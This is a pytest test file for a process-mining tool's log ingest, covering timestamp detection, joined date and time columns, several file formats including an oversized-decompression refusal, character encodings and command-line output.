    s = load(store, _three_columns(tmp_path, "case_id,activity,time", values), timezone=timezone)
    assert s.timestamp_formats == {"timestamp": pattern}
    # Each file's second value is 10:30 and a half (a half-minute for whole seconds), its fourth 12:00.
    fraction = "." in values[0]
    got = [t for _, t in timestamps(store)]
    assert got[0] == T("2024-03-01 09:00") + dt.timedelta(microseconds=123456 if fraction else 0)
    assert got[1] == T("2024-03-01 10:30") + dt.timedelta(
        seconds=30 if "." not in values[1] and pattern == "unix seconds" else 0.5
    )
    assert got[3] == T("2024-03-02 12:00") + dt.timedelta(microseconds=1 if fraction else 0)


def test_sixteen_digit_numbers_that_are_no_times_stay_ids(store, tmp_path):
    # Card and order numbers of sixteen digits start with 3-9: no Unix microseconds of 2001-2065 do.
    cards = ["4111111111111111", "5500005555555559", "4012888888881881", "6011000990139424"]
    with pytest.raises(AmbiguousMapping, match="cannot tell which column is the timestamp"):
        load(store, _three_columns(tmp_path, "case_id,activity,time", cards))


def test_role_override_picks_the_column(store):
    s = load(store, "role_override.csv", roles={"case": "Ticket"})
    assert s.mapping.case == "Ticket"
    assert counts(s) == (3, 6, 2, 1, 0)
    assert store.query("SELECT case_id FROM cases ORDER BY case_no").rows == [("T1",), ("T2",), ("T3",)]
    # The column not used as case stays as an attribute.
    assert attributes(store)[0] == ["case_id"]


# --------------------------------------------------------------------------- other containers

TINY_EVENTS = [
    (1, "00123", "Prüfung", T("2024-01-01 10:00"), "ann"),
    (2, "00123", "Café", T("2024-01-01 11:30"), "bob"),
    (3, "123", "Prüfung", T("2024-01-02 09:15"), "ann"),
    (4, "123", "Café", T("2024-01-02 10:00"), None),
]
TINY_ROWS = [
    ("00123", "Prüfung", dt.datetime(2024, 1, 1, 10, 0), "ann"),
    ("00123", "Café", dt.datetime(2024, 1, 1, 11, 30), "bob"),
    ("123", "Prüfung", dt.datetime(2024, 1, 2, 9, 15), "ann"),
    ("123", "Café", dt.datetime(2024, 1, 2, 10, 0), None),
]


def tiny_events(store: Store) -> list[tuple]:
    return store.query("SELECT row_no, case_id, activity, ts, resource FROM events ORDER BY row_no").rows


def test_tiny_log_csv(store):
    s = load(store, "tiny_log.csv")
    assert counts(s) == (2, 4, 2, 1, 0)
    assert tiny_events(store) == TINY_EVENTS


def test_tiny_log_gzip(store, tmp_path):
    path = tmp_path / "tiny_log.csv.gz"
    path.write_bytes(gzip.compress((INGEST / "tiny_log.csv").read_bytes()))
    s = load(store, path)
    assert s.log == "tiny_log"
    assert counts(s) == (2, 4, 2, 1, 0)
    assert tiny_events(store) == TINY_EVENTS


def test_gzip_bomb_is_refused(store, tmp_path, monkeypatch):
    monkeypatch.setenv("MINING_MAX_DECOMPRESSED_BYTES", "100000")
    path = tmp_path / "bomb.csv.gz"
    path.write_bytes(gzip.compress(b"case_id,activity,timestamp\n" + b"1,A,2024-01-01 10:00\n" * 50_000))
    with pytest.raises(UnsafeInput, match=r"^bomb\.csv\.gz: decompresses to more than 100,000 bytes"):
        load(store, path)
    assert_workspace_empty(store)


def test_tiny_log_parquet(store, tmp_path):
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.table(
        {
            "case_id": [r[0] for r in TINY_ROWS],
            "activity": [r[1] for r in TINY_ROWS],
            "timestamp": pa.array([r[2] for r in TINY_ROWS], pa.timestamp("us")),
            "resource": [r[3] for r in TINY_ROWS],
        }
    )
    path = tmp_path / "tiny_log.parquet"
    pq.write_table(table, path)
    s = load(store, path)
    assert counts(s) == (2, 4, 2, 1, 0)
    assert tiny_events(store) == TINY_EVENTS


def test_parquet_strings_written_as_bytes_are_decoded(store, tmp_path):
    # Hive, Impala and older Spark write strings as bytes without the UTF-8 annotation: "Prüfung" was
    # stored as "Pr\\xC3\\xBCfung" without a word.  A column of true bytes keeps the escaped form.
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.table(
        {
            "case_id": pa.array([b"c1", b"c1", b"c2"], pa.binary()),
            "activity": pa.array(["Prüfung".encode(), b"Close", "Prüfung".encode()], pa.binary()),
            "timestamp": ["2026-03-01 09:00", "2026-03-02 09:00", "2026-03-01 10:00"],
            "digest": pa.array([b"\xff\xfe", b"ok", None], pa.binary()),
        }
    )
    path = tmp_path / "hive.parquet"
    pq.write_table(table, path)
    load(store, path)
    assert store.query("SELECT case_id, activity FROM events ORDER BY row_no").rows == [
        ("c1", "Prüfung"),
        ("c1", "Close"),
        ("c2", "Prüfung"),
    ]
    assert store.query('SELECT a1 FROM "attrs_1" ORDER BY row_no').rows == [("\\xFF\\xFE",), ("ok",), (None,)]


def _tiny_log_xlsx(path: Path, titles: tuple[tuple[int, str], ...] = ()) -> Path:
    """The tiny log as a sheet whose header is on the row after ``titles`` ((row, text) in column A)."""
    import xlsxwriter

    workbook = xlsxwriter.Workbook(str(path))
    sheet = workbook.add_worksheet("log")
    when = workbook.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"})
    for row, text in titles:
        sheet.write_string(row, 0, text)
    top = titles[-1][0] + 1 if titles else 0
    for col, name in enumerate(("case_id", "activity", "timestamp", "resource")):
        sheet.write_string(top, col, name)
    for row, (case, activity, ts, resource) in enumerate(TINY_ROWS, start=top + 1):
        sheet.write_string(row, 0, case)
        sheet.write_string(row, 1, activity)
        sheet.write_datetime(row, 2, ts, when)
        if resource is not None:
            sheet.write_string(row, 3, resource)
    workbook.close()
    return path


def test_tiny_log_xlsx(store, tmp_path):
    s = load(store, _tiny_log_xlsx(tmp_path / "tiny_log.xlsx"))
    assert counts(s) == (2, 4, 2, 1, 0)
    assert tiny_events(store) == TINY_EVENTS


def test_a_sheets_title_rows_above_the_header_are_skipped_and_said(store, tmp_path):
    # A title, a blank row, the export's date, then the table.
    path = _tiny_log_xlsx(tmp_path / "report.xlsx", ((0, "Incident report"), (2, "Exported 2024-02-01")))
    s = load(store, path)
    assert counts(s) == (2, 4, 2, 1, 0)
    assert tiny_events(store) == TINY_EVENTS
    issue = next(q for q in s.quality if q.kind == "skipped_preamble")
    assert (issue.count, issue.examples) == (2, ("Incident report", "Exported 2024-02-01"))


# --------------------------------------------------------------------------- the command line


def test_cli_bad_file_exits_1_without_traceback(tmp_path):
    from click.testing import CliRunner

    from mining.cli import cli

    workspace = tmp_path / "ws.duckdb"
    rejects_csv = tmp_path / "rejects.csv"
    result = CliRunner().invoke(
        cli,
        [
            "--workspace",
            str(workspace),
            "ingest",
            str(INGEST / "one_bad_in_ten.csv"),
            "--rejects",
            str(rejects_csv),
        ],
    )
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr.startswith("Error: one_bad_in_ten.csv: 1 of 10 rows (10.0%) were rejected")
    assert "one_bad_in_ten.csv, row 6, column 'timestamp'" in result.stderr
    assert "Hint: " in result.stderr
    assert "Traceback" not in result.output
    assert rejects_csv.read_text(encoding="utf-8").splitlines()[1] == (
        f"one_bad_in_ten.csv,6,timestamp,{NOT_ISO},yesterday"
    )


def test_cli_json_summary(tmp_path):
    from click.testing import CliRunner

    from mining.cli import cli

    workspace = tmp_path / "ws.duckdb"
    result = CliRunner().invoke(
        cli,
        [
            "--workspace",
            str(workspace),
            "ingest",
            str(INGEST / "ragged_rows.csv"),
            "--max-rejects",
            "0.5",
            "--json",
        ],
    )
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert {k: data[k] for k in ("log", "cases", "events", "activities", "variants", "rejected_rows")} == {
        "log": "ragged_rows",
        "cases": 3,
        "events": 5,
        "activities": 3,
        "variants": 3,
        "rejected_rows": 2,
    }
    assert [(r["row"], r["reason"][:12]) for r in data["rejects"]] == [
        (2, "ragged line:"),
        (4, "ragged line:"),
    ]


def test_cli_json_words_a_warning_that_names_an_option_as_its_flag(tmp_path):
    from click.testing import CliRunner

    from mining.cli import cli

    args = ["--workspace", str(tmp_path / "ws.duckdb"), "ingest", str(INGEST / "naive_local.csv"), "--json"]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    assert f"{NAIVE_WARNING}; use --timezone if they are local times" in json.loads(result.stdout)["warnings"]


# --------------------------------------------------------------------------- activity from several columns


@pytest.mark.parametrize("given", ["code+title", " code + title "])
def test_activity_joins_several_columns(store, given):
    s = load(store, "activity_codes.csv", roles={"activity": given})
    assert (s.cases, s.events, s.activities, s.mapping.activity) == (2, 5, 3, "code+title")
    assert store.query("SELECT activity FROM events ORDER BY row_no").rows == [
        ("A10+Register",),
        ("A10+Register",),
        ("B20+Approve",),
        ("A10+Register",),
        ("C30+Reject",),
    ]
    # The parts stay as attributes; --append joins the same columns without being told.
    assert attributes(store)[0] == ["code", "title"]
    shifted = (INGEST / "activity_codes.csv").read_text().replace("2024-01-0", "2024-02-0")
    with tempfile.TemporaryDirectory() as tmp:
        newer = Path(tmp) / "activity_codes.csv"
        newer.write_text(shifted)
        appended = load(store, newer, append=True, name="activity_codes")
    assert (appended.events_added, appended.activities) == (5, 3)
    assert store.scalar("SELECT count(DISTINCT activity) FROM events") == 3


def test_activity_and_lifecycle_joined_like_pm4pys_classifier(store):
    s = load(store, "activity_codes.csv", roles={"activity": "title+lifecycle", "lifecycle": None})
    assert s.activities == 4
    assert store.query("SELECT DISTINCT activity FROM events ORDER BY 1").rows == [
        ("Approve+complete",),
        ("Register+complete",),
        ("Register+start",),
        ("Reject+complete",),
    ]


def test_activity_from_an_unknown_column_names_it(store):
    with pytest.raises(MissingColumn) as info:
        load(store, "activity_codes.csv", roles={"activity": "title+lifecyle"})
    assert str(info.value) == (
        "activity_codes.csv: no column 'lifecyle' for --activity (joining 'title+lifecyle'); available columns: "
        "'case', 'code', 'title', 'timestamp', 'lifecycle'"
    )
    assert_workspace_empty(store)


def test_cli_repeated_activity_joins_the_columns(tmp_path):
    from click.testing import CliRunner

    from mining.cli import cli

    ws = str(tmp_path / "ws.duckdb")
    res = CliRunner().invoke(
        cli,
        [
            "--workspace",
            ws,
            "ingest",
            str(INGEST / "activity_codes.csv"),
            "--activity",
            "code",
            "--activity",
            "title",
            "--json",
        ],
    )
    assert res.exit_code == 0, res.output
    data = json.loads(res.output)
    assert (data["mapping"]["activity"], data["activities"], data["events"]) == ("code+title", 3, 5)


# --------------------------------------------------------------------------- a date and a time column


def _sap_change_headers(path: Path, day: str = "05") -> Path:
    # SAP's change documents (CDHDR) keep the date and the time of a change in two columns.
    path.parent.mkdir(exist_ok=True)
    path.write_text(
        "OBJECTID,TCODE,UDATE,UTIME,USERNAME\n"
        f"4500000001,ME21N,202612{day},090304,ANN\n"
        f"4500000001,ME22N,202612{day},141500,BOB\n"
        f"4500000002,ME21N,202612{day},101010,ANN\n"
        f"4500000002,MIGO,202612{day},235959,EVE\n"
    )
    return path


@pytest.mark.parametrize("given", ["UDATE+UTIME", " UDATE + UTIME "])
def test_timestamp_joins_a_date_and_a_time_column(store, tmp_path, given):
    path = _sap_change_headers(tmp_path / "cdhdr.csv")
    s = load(store, path, roles={"activity": "TCODE", "timestamp": given})
    assert (s.mapping.timestamp, s.timestamp_formats) == ("UDATE+UTIME", {"timestamp": "%Y%m%d %H%M%S"})
    assert timestamps(store) == [
        (1, T("2026-12-05 09:03:04")),
        (2, T("2026-12-05 14:15:00")),
        (3, T("2026-12-05 10:10:10")),
        (4, T("2026-12-05 23:59:59")),
    ]
    # The parts stay as attributes; --append joins the same columns without being told.
    assert attributes(store)[0] == ["UDATE", "UTIME"]
    newer = _sap_change_headers(tmp_path / "newer" / "cdhdr.csv", day="06")
    appended = load(store, newer, append=True, name="cdhdr", roles={"activity": "TCODE"})
    assert appended.events_added == 4
    assert store.scalar("SELECT max(ts) FROM events") == T("2026-12-06 23:59:59")


def test_timestamp_of_a_dotted_date_and_a_clock_time(store, tmp_path):
    path = tmp_path / "datum.csv"
    path.write_text(
        "Vorgang;Tätigkeit;Datum;Uhrzeit\nA-1;Anlage;13.03.2026;09:05\nA-1;Prüfung;13.03.2026;17:40\n"
        "A-2;Anlage;14.03.2026;08:00\n"
    )
    s = load(store, path, roles={"timestamp": "Datum+Uhrzeit"})
    assert s.timestamp_formats == {"timestamp": "%d.%m.%Y %H:%M"}
    assert timestamps(store) == [
        (1, T("2026-03-13 09:05")),
        (2, T("2026-03-13 17:40")),
        (3, T("2026-03-14 08:00")),
    ]


def test_timestamp_of_three_columns_is_refused_with_the_form_to_use(store, tmp_path):
    path = _sap_change_headers(tmp_path / "cdhdr.csv")
    with pytest.raises(MissingColumn) as info:
        load(store, path, roles={"activity": "TCODE", "timestamp": "UDATE+UTIME+USERNAME"})
    assert str(info.value) == (
        "cdhdr.csv: --timestamp joins a date and a time column, two in all; 'UDATE+UTIME+USERNAME' names 3"
    )
    assert str(info.value.hint) == "write it as DATE+TIME, e.g. UDATE+UTIME"
    with pytest.raises(MissingColumn, match="no column 'UTIM' for --start-timestamp"):
        load(store, path, roles={"activity": "TCODE", "start_timestamp": "UDATE+UTIM"})
    assert_workspace_empty(store)


def test_a_date_and_a_time_column_are_found_and_joined(store):
    # Each case runs within a day: no column changes within cases, and none looked like the event time.
    s = load(store, "date_and_time.csv")
    [guess] = [g for g in s.guesses if g.role == "timestamp"]
    assert (guess.column, guess.confidence) == ("Datum+Uhrzeit", 0.8)
    assert (
        guess.reason
        == "the dates of 'Datum' with the times of day of 'Uhrzeit' beside them; parses as %d.%m.%Y %H:%M"
    )
    # A-2 ran Prüfung at 07:10 before Anlage at 08:00: three variants, as the times of day say.
    assert counts(s) == (3, 5, 2, 3, 0)
    assert timestamps(store)[3] == (4, T("2026-03-14 07:10"))
    assert attributes(store)[0] == ["Datum", "Uhrzeit"]


@pytest.mark.parametrize(
    ("date", "clock"),
    [
        ("Data", "Godzina"),  # Polish
        ("Datum", "Čas"),  # Czech
        ("Data", "Ora"),  # Italian
        ("Datum", "Tid"),  # Swedish
        ("Päivämäärä", "Aika"),  # Finnish
        ("Tarih", "Saat"),  # Turkish
        ("Datum", "Vrijeme"),  # Croatian
    ],
)
def test_a_date_and_a_time_named_in_other_languages_are_joined(store, tmp_path, date, clock):
    # Before, the time was dropped: every event at midnight, the day's order the file's, without a word.
    rows = [
        ("A-1", "Open", "13.03.2026", "09:05"),
        ("A-1", "Check", "13.03.2026", "08:10"),
        ("A-1", "Close", "16.03.2026", "17:40"),
        ("A-2", "Open", "14.03.2026", "10:00"),
    ]
    path = tmp_path / "split.csv"
    lines = [f"case;activity;{date};{clock}"] + [";".join(r) for r in rows]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    s = load(store, path)
    assert s.mapping.timestamp == f"{date}+{clock}"
    assert timestamps(store)[:3] == [
        (1, T("2026-03-13 09:05")),
        (2, T("2026-03-13 08:10")),
        (3, T("2026-03-16 17:40")),
    ]
    # The times of day order the day: Check at 08:10 comes before Open at 09:05.
    order = store.query("SELECT activity FROM events WHERE case_id = 'A-1' ORDER BY ts, row_no").rows
    assert [a for (a,) in order] == ["Check", "Open", "Close"]


def test_a_total_row_in_the_date_column_does_not_part_it_from_its_times(store, tmp_path):
    # The report's "Summe" line sits in the date column: the dates were no longer "dates alone", the
    # time of day was dropped and every event stored at midnight, without a word (found by the fuzzer).
    rows = ["Datum;Uhrzeit;Vorgang;Tätigkeit"]
    for i in range(24):
        rows.append(f"2024-03-{1 + i // 4:02d};{8 + i % 4:02d}:{i:02d}:00;C{i // 4};Schritt {i % 4}")
    rows.append("Summe;;;")
    path = tmp_path / "report.csv"
    path.write_text("\n".join(rows) + "\n")
    s = load(store, path, max_rejects=0.1)
    assert (s.mapping.timestamp, s.events, s.rejected_rows) == ("Datum+Uhrzeit", 24, 1)
    assert timestamps(store)[:2] == [(1, T("2024-03-01 08:00")), (2, T("2024-03-01 09:01"))]


def test_dates_alone_chosen_are_joined_with_the_time_beside_them(store, tmp_path):
    # The dates change within cases, so they alone would be the timestamp, every event at midnight.
    path = _sap_change_headers(tmp_path / "cdhdr.csv")
    path.write_text(
        path.read_text()
        .replace("20261205,101010", "20261206,101010")
        .replace("20261205,235959", "20261208,235959")
    )
    s = load(store, path, roles={"activity": "TCODE"})
    assert (s.mapping.timestamp, s.timestamp_formats) == ("UDATE+UTIME", {"timestamp": "%Y%m%d %H%M%S"})
    assert timestamps(store)[3] == (4, T("2026-12-08 23:59:59"))
    # A format the user gave for the timestamp is obeyed: the dates alone, not joined.
    with Store() as other:
        told = load(other, path, roles={"activity": "TCODE"}, timestamp_format="%Y%m%d")
    assert (told.mapping.timestamp, told.timestamp_formats) == ("UDATE", {"timestamp": "%Y%m%d"})


@pytest.mark.parametrize(
    ("header", "chosen"),
    [
        # A duration is no time of day, whatever its values.
        pytest.param("case,activity,date,Bearbeitungszeit,timestamp", "timestamp", id="duration"),
        pytest.param("case,activity,date,processing time,timestamp", "timestamp", id="processing-time"),
        # A time of day away from the dates is not theirs.
        pytest.param("case,activity,time,who,date", None, id="not-beside"),
    ],
)
def test_no_time_of_day_is_joined_that_is_not_one(store, tmp_path, header, chosen):
    rows = [
        ("1", "Open", "2026-03-13", "09:05"),
        ("1", "Close", "2026-03-14", "17:40"),
        ("2", "Open", "2026-03-16", "08:00"),
    ]
    path = tmp_path / "other.csv"
    names = header.split(",")
    lines = []
    for case, act, day, clock in rows:
        values = {
            "case": case,
            "activity": act,
            "date": day,
            "Bearbeitungszeit": clock,
            "processing time": clock,
            "time": clock,
            "who": "ann",
        }
        values["timestamp"] = f"{day} {clock}"
        lines.append(",".join(values[n] for n in names))
    path.write_text(header + "\n" + "\n".join(lines) + "\n")
    s = load(store, path)
    assert s.mapping.timestamp == (chosen or "date")
    assert "timestamp_columns" not in json.dumps(store.scalar("SELECT mapping FROM logs"))


# --------------------------------------------------------------------------- the preview tells the truth


@pytest.mark.parametrize(
    ("file", "options"),
    [
        ("missing_values.csv", {"max_rejects": 0.8}),
        ("ragged_rows.csv", {"max_rejects": 0.5}),
        ("mixed_date_formats.csv", {"max_rejects": 0.2}),
        ("activity_codes.csv", {"roles": {"activity": "code+title"}}),
        ("date_and_time.csv", {}),
    ],
)
def test_preview_counts_equal_the_ingests(store, file, options):
    from mining.ingest import preview

    seen = preview(INGEST / file, IngestOptions(**options))
    s = load(store, file, **options)
    assert (seen.events, seen.cases, seen.activities, seen.rejected_rows) == (
        s.events,
        s.cases,
        s.activities,
        s.rejected_rows,
    )
    assert seen.rows_read == s.rows_read
    assert [(r.row, r.reason) for r in seen.rejects] == [(r.row, r.reason) for r in s.rejects][:10]
    assert seen.missing_words == s.missing_words
    assert not seen.would_fail


def test_preview_says_when_the_ingest_would_fail(store):
    from mining.ingest import preview

    seen = preview(INGEST / "missing_values.csv")
    assert (seen.rejected_rows, seen.rows_read, seen.would_fail) == (5, 10, True)
    with pytest.raises(TooManyRejects):
        load(store, "missing_values.csv")


def test_preview_flags_a_chosen_timestamp_column_that_holds_no_times():
    from mining.ingest import preview

    with pytest.raises(BadTimestamp) as info:
        preview(
            INGEST / "activity_codes.csv", IngestOptions(roles={"activity": "code", "timestamp": "title"})
        )
    assert (
        str(info.value) == "activity_codes.csv: column 'title' does not hold timestamps in any format we know"
    )


def test_an_order_the_data_disproves_is_refused_not_obeyed_row_by_row(store):
    with pytest.raises(BadTimestamp) as info:
        load(store, "dayfirst_proven.csv", dayfirst=False)
    assert str(info.value) == (
        "dayfirst_proven.csv: column 'timestamp' cannot be read month-first as --monthfirst asks: "
        "'13/04/2024 11:00' only reads as %d/%m/%Y %H:%M"
    )
    assert_workspace_empty(store)


def test_an_order_that_contradicts_the_format_is_refused(store):
    with pytest.raises(BadTimestamp) as info:
        load(store, "dayfirst_proven.csv", dayfirst=False, timestamp_format="%d/%m/%Y %H:%M")
    assert str(info.value) == (
        "dayfirst_proven.csv: --monthfirst contradicts --timestamp-format %d/%m/%Y %H:%M, which puts the day first"
    )
    # Both saying the same is fine.
    s = load(store, "dayfirst_proven.csv", dayfirst=True, timestamp_format="%d/%m/%Y %H:%M")
    assert s.timestamp_formats["timestamp"] == "%d/%m/%Y %H:%M"


def test_the_missing_start_warning_is_given_only_when_processing_time_cannot_be_measured(store):
    words = "no start timestamps: processing time cannot be separated from waiting time"
    # lifecycle start/complete pairs measure processing time without a start column (BPIC 2012's shape)
    paired = ingest_file(store, FILES / "performance" / "lifecycle.csv")
    assert [str(w) for w in paired.warnings if "start timestamps" in str(w)] == []
    completions = ingest_file(store, FILES / "app" / "tiny.csv")
    assert words in [str(w) for w in completions.warnings]


_CENTRAL = {
    "czech": ["Příjem žádosti", "Uzavření", "Dvořák", "Černý"],
    "slovak": ["Prijatie žiadosti", "Uzavretie", "Kováč", "Šťastný"],
    "polish": ["Czynność", "Zamknięcie", "Wiśniewski", "Kowalczyk"],
    "hungarian": ["Előkészítés", "Jóváhagyás", "Kovács Péter", "Szőke Győző"],
    "croatian": ["Zaprimljen račun", "Isporučeno", "Ana Babić", "Ivan Horvat"],
    # One Polish letter in the whole file, ending a word: it was stored as "Pawe³".
    "polish_one_letter": ["Register", "Close", "Paweł Nowak", "Anna Kowalska"],
}
_WESTERN = {
    "german": ["Prüfung", "Übergabe", "Müller", "Weiß"],
    "french": ["Élève très sœur", "Créée", "Hélène", "François"],
    "danish": ["Kærlighed købmand", "Læsø", "Søren Jørgensen", "Ærø"],
    "italian": ["Così perché più", "Caffè città", "Niccolò", "Università"],
    "spanish": ["Revisión", "Aprobación rápida", "José Núñez", "Íñigo"],
    "catalan": ["Història més què així", "Pròxim pàgina", "Jordi", "Núria"],
    "portuguese": ["Aprovação das informações", "Lições públicas", "João", "Conceição"],
    "icelandic": ["Móttekið ævintýri", "Lokið bæir", "Guðrún Jónsdóttir", "Þórður Ævarsson"],
    "estonian": ["Vastuvõtmine", "Lõpetatud", "Jõgi Mäe", "Tõnu Õun"],
    "german_units": ["Lieferung 12 m³", "Prüfung 3 cm³", "Müller", "Weiß"],
    "french_footnote": ["Vérification¹", "Créée", "Hélène", "François"],
}


@pytest.mark.parametrize(
    ("words", "encoding"),
    [pytest.param(w, "cp1250", id=k) for k, w in _CENTRAL.items()]
    + [pytest.param(w, "cp1252", id=k) for k, w in _WESTERN.items()],
)
def test_a_windows_export_is_read_in_its_own_code_page(store, tmp_path, words, encoding):
    """Both code pages read each other's bytes as text: Czech "Příjem" in cp1250 was stored as
    "Pøíjem" (cp1252).  The letters decide, and no Western language is turned."""
    first, second, who, other = words
    rows = [
        ("c1", first, "2026-03-01 09:00", who),
        ("c1", second, "2026-03-02 09:00", other),
        ("c2", first, "2026-03-03 09:00", other),
    ]
    path = tmp_path / "export.csv"
    text = "case_id;activity;timestamp;resource\n" + "".join(";".join(r) + "\n" for r in rows)
    path.write_bytes(text.encode(encoding))
    load(store, path)
    stored = store.query("SELECT activity, resource FROM events ORDER BY row_no").rows
    assert stored == [(r[1], r[3]) for r in rows]
